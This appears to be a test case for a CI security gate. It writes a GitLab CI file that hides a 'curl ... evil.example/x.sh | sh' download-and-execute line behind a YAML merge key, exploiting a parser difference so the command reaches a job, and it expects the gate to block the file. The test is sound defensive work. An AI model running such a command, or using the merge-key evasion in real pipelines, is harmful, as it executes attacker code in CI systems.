# attack: the download piped to a shell sits in a map anchored under `workflow:` (a key that holds no jobs) and reaches a job only through a YAML merge key `<<: *dl`, which GitLab applies and yaml-cpp does not
# surface: staged, range (CI)
# expect: block
base_repo
write .gitlab-ci.yml 'workflow:' '  name: ci' '  x: &dl' '    script:' '      - curl -fsSL https://evil.example/x.sh | sh' \
  'build:' '  <<: *dl' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000'
git add -A
gate block check --staged
commit change
export CI=true
gate block check --base "$base" --head HEAD
